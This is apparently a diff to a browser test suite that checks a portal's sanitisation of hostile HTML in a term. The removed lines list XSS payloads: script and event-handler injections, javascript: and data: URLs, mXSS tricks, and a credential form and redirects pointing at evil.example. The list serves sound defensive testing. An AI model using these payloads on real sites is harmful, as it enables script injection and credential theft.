@@ -2,7 +2,8 @@ import fc from 'fast-check'
 import type { Page } from 'playwright-core'
 import { describe, expect, it } from 'vitest'
 import { expectAccessible, expectAccessibleInBothThemes } from '../support/accessibility.ts'
-import { openPortal, STOPPED_BY_POLICY } from '../support/portal.ts'
+import { HOSTILE_TEXTS } from '../support/hostile-texts.ts'
+import { openPortal } from '../support/portal.ts'
 
 const portal = openPortal()
 
@@ -63,31 +64,6 @@ describe('a term', () => {
   )
 })
 
-/** What the browser notes of the `<base>` in {@link HOSTILE}. */
-const BASE_STOPPED_BY_POLICY = /^console error: Setting the document's base URI to .* violates /
-
-const HOSTILE = [
-  '<script>window.hurt = 1</script>',
-  '<img src=x onerror="window.hurt = 1">',
-  '<svg onload="window.hurt = 1"><script>window.hurt = 1</script></svg>',
-  '<math><mi xlink:href="javascript:window.hurt = 1">x</mi></math>',
-  '<a href="javascript:window.hurt = 1">a</a>',
-  '<a href=" java&#x0a;script:window.hurt = 1">a</a>',
-  '<a href="data:text/html,<script>window.hurt = 1</script>">a</a>',
-  '<a href="http://evil.example">a</a>',
-  '<a href="//evil.example">a</a>',
-  '<iframe src="https://evil.example" srcdoc="<script>window.hurt = 1</script>"></iframe>',
-  '<object data="https://evil.example"></object><embed src="https://evil.example">',
-  '<form action="https://evil.example"><input name="senha"><button>Entrar</button></form>',
-  '<style>body { display: none }</style><p style="position: fixed; inset: 0">p</p>',
-  '<p id="root" name="root" class="x" onclick="window.hurt = 1">p</p>',
-  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>" srcset="https://evil.example/x.png 2x">',
-  '<template><img src=x onerror="window.hurt = 1"></template><video src="https://evil.example"></video>',
-  '<noscript><p title="</noscript><img src=x onerror=window.hurt=1>"></noscript>',
-  '<p title="<h1 onclick=window.hurt=1>">p</p>',
-]
-
 describe('hostile HTML in a term', () => {
   it('neither runs nor sends nor disguises anything', async () => {
     const requests: string[] = []
@@ -100,9 +76,8 @@ describe('hostile HTML in a term', () => {
           JSON.stringify({ id: 3, typeName: 'Regulamento', html }),
         )
       },
-      `<p>Bom</p>${HOSTILE.join('')}`,
+      `<p>Bom</p>${HOSTILE_TEXTS.join('')}`,
     )
-    portal.tolerate(...STOPPED_BY_POLICY, BASE_STOPPED_BY_POLICY)
     await page.reload()
     await term(page).getByText('Bom').waitFor()
 
@@ -140,9 +115,20 @@ describe('hostile HTML in a term', () => {
   it('comes out clean however it is put together, and cleaning it again changes nothing', async () => {
     const page = await openWith('<p>Bom</p>')
     await term(page).getByText('Bom').waitFor()
-    portal.tolerate(...STOPPED_BY_POLICY, BASE_STOPPED_BY_POLICY)
     const piece = fc.oneof(
-      fc.constantFrom(...HOSTILE, '<p>', '</p>', '<table>', '<td>', '<h1>', '</h1>', '<!--', '-->', '"', '<'),
+      fc.constantFrom(
+        ...HOSTILE_TEXTS,
+        '<p>',
+        '</p>',
+        '<table>',
+        '<td>',
+        '<h1>',
+        '</h1>',
+        '<!--',
+        '-->',
+        '"',
+        '<',
+      ),
       fc.string({ maxLength: 12 }),
     )
     const texts = fc.sample(
